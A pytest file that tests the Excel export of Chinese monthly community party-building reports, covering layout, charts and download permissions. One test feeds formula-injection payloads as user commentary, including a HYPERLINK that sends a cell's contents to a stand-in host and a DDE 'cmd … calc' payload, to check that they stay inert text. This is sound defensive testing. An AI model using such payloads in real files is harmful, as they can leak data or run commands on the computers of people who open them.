"""Monthly reports exported to .xlsx, downloaded through the gateway and read back with
openpyxl: the layout an organization department's 月报表 has, the numbers of the GraphQL
report, and the charts of coverage and compliance over the months and of grades.

Issue 7 (6.): "export to .xlsx (openpyxl) in the layout a Chinese organization department
uses; charts of coverage and compliance over the months and of the grade distribution".
Reports here use months of 2018 (the other report tests use 2019).
"""

from __future__ import annotations

import io
import zipfile

import httpx
import openpyxl
import pytest
from openpyxl.chart import BarChart, LineChart
from report_api import (
    COMMENT,
    DISTRICT_CODE,
    ROLLUP,
    SUBMIT,
    data,
    generate,
    mutate,
    read,
    street_user,
    streets,
)

from services.common.auth import Identity, Role
from stack import DISTRICT, Running

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MONTHS = ("2018-10", "2018-11")
HEADER = (
    "序号",
    "社区",
    "等级（认定/测算）",
    "得分",
    "达标指标数",
    "未达标指标",
    "楼栋覆盖率",
    "片区覆盖率",
    "较上月变化",
    None,
    None,
    "备注",
)
SUB_HEADER = ("得分", "楼栋覆盖率（百分点）", "指标")


def download(running: Running, path: str, identity: Identity | None = DISTRICT) -> httpx.Response:
    base = running.gateway.removesuffix("/graphql")
    return httpx.get(
        f"{base}{path}", headers=running.headers(running.gateway, identity), timeout=60
    )


@pytest.fixture(scope="module")
def street_reports(running: Running) -> tuple[str, str, list[dict]]:
    """Two months of the first street's reports, the second with commentary and submitted."""
    code, name = streets(running)[0]
    made = [generate(running, code, m) for m in MONTHS]
    writer = street_user(code)
    commentary = {
        "progress": "完成网格党支部调整。\n召开联席会议2次。",
        "problems": "个别楼栋未建党小组",
        "nextPlan": "推进楼栋党小组全覆盖",
        "remarks": [{"communityCode": made[1]["communities"][0]["code"], "remark": "试点"}],
    }
    assert (
        mutate(running, COMMENT, {"id": made[1]["id"], "input": commentary}, writer)["errors"] == []
    )
    submitted = mutate(running, SUBMIT, {"id": made[1]["id"]}, writer)
    assert submitted["errors"] == []
    return code, name, [made[0], submitted["report"]]


def _workbook(response: httpx.Response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert "attachment" in response.headers["content-disposition"]
    assert zipfile.is_zipfile(io.BytesIO(response.content))  # an OOXML package
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        assert package.testzip() is None
        assert "xl/workbook.xml" in package.namelist()
    return openpyxl.load_workbook(io.BytesIO(response.content))


STANDARD = "query ($id: ID) { gradingStandard(id: $id) { indicators { code name } } }"


def _named(running: Running, report: dict) -> dict[str, str]:
    """The indicators' names of the report's standard, as the graph gives them."""
    found = data(running, STANDARD, {"id": report["standardId"]})["gradingStandard"]
    return {i["code"]: i["name"] for i in found["indicators"]}


def _listed(codes: list[str], names: dict[str, str]) -> str:
    """Indicators in a workbook: code and Chinese name (issue 15, 10.: bare codes, P2、W3)."""
    return "；".join(f"{code} {names[code]}" for code in codes)


def _percent_cell(value: object, percent: float | None) -> None:
    if percent is None:
        assert value == "—"
    else:
        assert value == pytest.approx(percent / 100, abs=1e-4)


def _assert_report_sheet(
    ws: openpyxl.worksheet.worksheet.Worksheet, report: dict, names: dict[str, str]
) -> None:
    month = report["month"]
    year, number = month.split("-")
    assert ws["A1"].value == (
        f"{report['streetName']}党工委 {int(year)}年{int(number)}月 社区党建“三有四化”工作月报表"
    )
    assert "A1:L1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A2"].value.startswith("填报单位：") and ws["G2"].value.startswith("填报日期：")
    assert tuple(c.value for c in ws[3]) == HEADER
    assert tuple(ws.cell(row=4, column=c).value for c in (9, 10, 11)) == SUB_HEADER
    rows = report["communities"]
    for number, row in enumerate(rows, start=5):
        cells = [c.value for c in ws[number]]
        assert cells[:5] == [
            row["position"],
            row["name"],
            row["grade"]["label"],
            row["score"],
            row["indicatorsPassed"],
        ]
        assert ws.cell(row=number, column=5).number_format == f'0"/{row["indicatorsTotal"]}"'
        assert cells[5] == (_listed(row["failedIndicators"], names) or "无")
        _percent_cell(cells[6], row["coverage"]["buildingPercent"])
        _percent_cell(cells[7], row["coverage"]["zonePercent"])
        change = row["change"]
        if change is None:
            assert (cells[8], cells[10]) == ("—", "无上月报表")
        else:
            assert cells[8] == pytest.approx(change["scoreDelta"])
            assert cells[9] == pytest.approx(change["buildingPercentDelta"])
            for moved in ("newlyMet", "newlyFailed"):
                if change[moved]:
                    assert _listed(change[moved], names) in cells[10]
        assert cells[11] == (row["remark"] or None)
    totals_row = [c.value for c in ws[5 + len(rows)]]
    totals = report["totals"]
    assert totals_row[0] == "合计"
    assert totals_row[2] == f"达标社区 {totals['meetsStandard']}/{totals['communities']}"
    assert totals_row[3] == pytest.approx(totals["averageScore"])
    assert totals_row[4] == pytest.approx(totals["averageIndicatorsPassed"])
    _percent_cell(totals_row[6], totals["coverage"]["buildingPercent"])
    _percent_cell(totals_row[7], totals["coverage"]["zonePercent"])
    first = 5 + len(rows) + 2
    commentary = report["commentary"]
    for offset, (label, text) in enumerate(
        (
            ("工作进展", commentary["progress"]),
            ("存在问题", commentary["problems"]),
            ("下月计划", commentary["nextPlan"]),
        )
    ):
        assert ws.cell(row=first + offset, column=1).value == label
        assert ws.cell(row=first + offset, column=3).value == (text or "（未填写）")
    signature = ws.cell(row=first + 4, column=1).value
    assert (
        "审核人" in signature
        and f"填报人：{report['submittedBy'] or report['generatedBy']}" in signature
    )
    # Print: A4 landscape, header rows repeated, header frozen.
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)  # 9: A4
    assert ws.print_title_rows == "$3:$4"
    assert ws.freeze_panes == "C5"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width


def _refs(chart: object) -> list[str]:
    return [s.val.numRef.f for s in chart.series]


def _cells(col: str, first: int, last: int) -> str:
    """A range as openpyxl writes it (one cell alone: a month's trend of one point)."""
    return f"${col}${first}" if first == last else f"${col}${first}:${col}${last}"


def _assert_charts(
    ws: openpyxl.worksheet.worksheet.Worksheet, trend: list[dict], grades: list[dict]
) -> None:
    assert [c.value for c in ws[1]][:5] == [
        "月份",
        "三有四化达标率",
        "楼栋覆盖率",
        "片区覆盖率",
        "平均得分",
    ]
    for number, point in enumerate(trend, start=2):
        t = point["totals"]
        assert ws.cell(row=number, column=1).value == point["month"]
        _percent_cell(ws.cell(row=number, column=2).value, t["compliancePercent"])
        _percent_cell(ws.cell(row=number, column=3).value, t["coverage"]["buildingPercent"])
        _percent_cell(ws.cell(row=number, column=4).value, t["coverage"]["zonePercent"])
    for number, grade in enumerate(grades, start=2):
        assert (ws.cell(row=number, column=20).value, ws.cell(row=number, column=21).value) == (
            grade["name"],
            grade["count"],
        )
    line = [c for c in ws._charts if isinstance(c, LineChart)]
    bar = [c for c in ws._charts if isinstance(c, BarChart)]
    assert len(line) == 1 and len(bar) == 1
    last = len(trend) + 1
    assert _refs(line[0]) == [f"'统计图'!{_cells(col, 2, last)}" for col in "BCD"]
    assert [s.tx.strRef.f for s in line[0].series] == [
        f"'统计图'!{col}1" for col in "BCD"
    ]  # titles: the header cells
    for series in line[0].series:  # the months are the categories
        ref = series.cat.numRef or series.cat.strRef
        assert ref.f == f"'统计图'!{_cells('A', 2, last)}"
    assert _refs(bar[0]) == [f"'统计图'!$U$2:$U${len(grades) + 1}"]


def test_a_street_report_downloads_as_the_departments_form(
    running: Running, street_reports: tuple[str, str, list[dict]]
) -> None:
    code, name, (earlier, report) = street_reports
    wb = _workbook(download(running, report["downloadPath"], street_user(code)))
    assert wb.sheetnames == [name, "统计图"]
    _assert_report_sheet(wb[name], report, _named(running, report))
    # The chart sheet: this street's months (both generated here) and this month's grades.
    trend = []
    for month_report in (earlier, report):
        trend.append({"month": month_report["month"], "totals": month_report["totals"]})
    counts: dict[str, int] = {}
    for row in report["communities"]:
        counts[row["grade"]["name"]] = counts.get(row["grade"]["name"], 0) + 1
    roll = data(running, ROLLUP, {"district": DISTRICT_CODE, "month": report["month"]})
    grade_names = [g["name"] for g in roll["monthlyReportRollup"]["gradeDistribution"]]
    grades = [{"name": n, "count": counts.get(n, 0)} for n in grade_names]
    _assert_charts(wb["统计图"], trend, grades)


def test_the_district_roll_up_downloads_with_a_sheet_per_street(
    running: Running, street_reports: tuple[str, str, list[dict]]
) -> None:
    """Streets that submitted are ranked and get a sheet; a draft is listed apart as not
    submitted, with no figures and no sheet (issue 15, 11.: drafts were ranked beside them)."""
    code, name, (_, report) = street_reports
    month = report["month"]
    drafted, drafted_name = streets(running)[1]
    assert drafted != code
    generate(running, drafted, month)  # left as a draft
    roll = data(running, ROLLUP, {"district": DISTRICT_CODE, "month": month})["monthlyReportRollup"]
    wb = _workbook(download(running, roll["downloadPath"]))
    submitted = [s["streetName"] for s in roll["streets"] if s["status"] == "SUBMITTED"]
    assert wb.sheetnames == ["汇总", "统计图", *submitted]
    assert name in submitted and drafted_name not in submitted
    _assert_report_sheet(wb[name], report, _named(running, report))
    summary = wb["汇总"]
    assert summary["A1"].value.endswith("社区党建“三有四化”工作月报汇总表")
    assert [c.value for c in summary[3]][:3] == ["排名", "街道（乡）", "报送状态"]
    by_code = {s["streetCode"]: s for s in roll["streets"]}
    status_zh = {"SUBMITTED": "已报送", "DRAFT": "草稿（未报送）", "NOT_GENERATED": "未生成"}
    number = 3
    for number, street in enumerate(roll["streetRanking"], start=4):
        cells = [c.value for c in summary[number]]
        full = by_code[street["streetCode"]]
        assert (cells[0], cells[1], cells[2]) == (full["rank"], full["streetName"], "已报送")
        assert cells[5] == pytest.approx(full["totals"]["averageScore"])
        _percent_cell(cells[8], full["totals"]["coverage"]["buildingPercent"])
    # 二、未报送: every street without a submitted report, in code order, unranked.
    apart = roll["notSubmitted"]
    assert drafted in [s["streetCode"] for s in apart]
    assert summary.cell(row=number + 2, column=1).value.startswith("二、未报送")
    for offset, street in enumerate(apart):
        cells = [c.value for c in summary[number + 4 + offset]]
        full = by_code[street["streetCode"]]
        assert cells[:3] == ["—", full["streetName"], status_zh[full["status"]]]
        assert cells[4:] == ["—"] * (len(cells) - 4)  # a draft's figures are not reported
    start = number + 4 + len(apart) + 1
    assert summary.cell(row=start, column=1).value.startswith("三、社区排名")
    assert summary.cell(row=start + 1, column=1).value == "排名"
    assert {r["streetCode"] for r in roll["communityRanking"]} == {
        s["streetCode"] for s in roll["streetRanking"]
    }
    for number, ranked_community in enumerate(roll["communityRanking"], start=start + 2):
        cells = [c.value for c in summary[number]]
        community = ranked_community["community"]
        assert cells[:3] == [
            ranked_community["rank"],
            ranked_community["streetName"],
            community["name"],
        ]
        assert cells[4] == pytest.approx(community["score"])
    _assert_charts(wb["统计图"], roll["trend"], roll["gradeDistribution"])
    assert summary.page_setup.orientation == "landscape"


def test_a_secretary_downloads_only_their_community(
    running: Running, street_reports: tuple[str, str, list[dict]]
) -> None:
    code, name, (earlier, report) = street_reports
    # Precondition: with more than one community, the street's figures differ from theirs.
    assert len(report["communities"]) > 1
    community = report["communities"][-1]
    secretary = Identity("s", Role.SECRETARY, community["code"])
    wb = _workbook(download(running, report["downloadPath"], secretary))
    ws = wb[name]
    assert ws["B5"].value == community["name"]
    assert ws["A6"].value == "合计"
    # The chart sheet shows what the graph shows them: their community's trend and grade,
    # as `monthlyReport` totals it for the secretary (never the whole street's).
    theirs = [read(running, code, r["month"], secretary) for r in (earlier, report)]
    assert [len(r["communities"]) for r in theirs] == [1, 1]
    trend = [{"month": r["month"], "totals": r["totals"]} for r in theirs]
    roll = data(running, ROLLUP, {"district": DISTRICT_CODE, "month": report["month"]})
    grade_names = [g["name"] for g in roll["monthlyReportRollup"]["gradeDistribution"]]
    grades = [{"name": n, "count": int(n == community["grade"]["name"])} for n in grade_names]
    _assert_charts(wb["统计图"], trend, grades)
    counts = [wb["统计图"].cell(row=r, column=21).value for r in range(2, len(grades) + 2)]
    assert sum(counts) == 1


def test_downloads_are_refused_when_they_should_be(
    running: Running, street_reports: tuple[str, str, list[dict]]
) -> None:
    code, _, (_, report) = street_reports
    other = streets(running)[1][0]
    path = report["downloadPath"]
    assert download(running, path, None).status_code == 401  # nobody signed in
    # The assess route itself answers only the gateway's signed callers.
    direct = running.subgraphs["assess"].removesuffix("/graphql") + path
    assert httpx.get(direct, timeout=30).status_code == 401
    assert download(running, path, street_user(other)).status_code == 403  # another street
    assert download(running, path, Identity("p", Role.PLANNER, DISTRICT_CODE)).status_code == 403
    district = f"/reports/{DISTRICT_CODE}/{report['month']}.xlsx"
    assert download(running, district, street_user(code)).status_code == 403
    assert download(running, f"/reports/{code}/2018-01.xlsx").status_code == 404  # none
    for bad in (
        f"/reports/{code}/2018-13.xlsx",
        f"/reports/{code}/next.xlsx",
        f"/reports/{code[:-1]}/2018-10.xlsx",
        "/reports/9999-01/2018-10.xlsx",
        f"/reports/{code}/2999-01.xlsx",
    ):
        refused = download(running, bad)
        assert refused.status_code == 400, bad
        assert refused.json()["detail"]


def test_text_that_looks_like_a_formula_stays_text(running: Running) -> None:
    """Commentary and remarks are typed by users: "=…", "+…", "-…" or "@…" must reach the
    workbook as text, never as a formula Excel would run when the file is opened."""
    code, _ = streets(running)[-1]
    report = generate(running, code, "2017-06")
    typed = {
        "progress": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
        "problems": "+1+cmd|' /C calc'!A0",
        "nextPlan": "-2+3",
        "remarks": [{"communityCode": report["communities"][0]["code"], "remark": "@SUM(1,2)"}],
    }
    changed = mutate(running, COMMENT, {"id": report["id"], "input": typed}, street_user(code))
    assert changed["errors"] == []
    response = download(running, report["downloadPath"])
    book = _workbook(response)
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert typed["progress"] in texts and "@SUM(1,2)" in texts
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
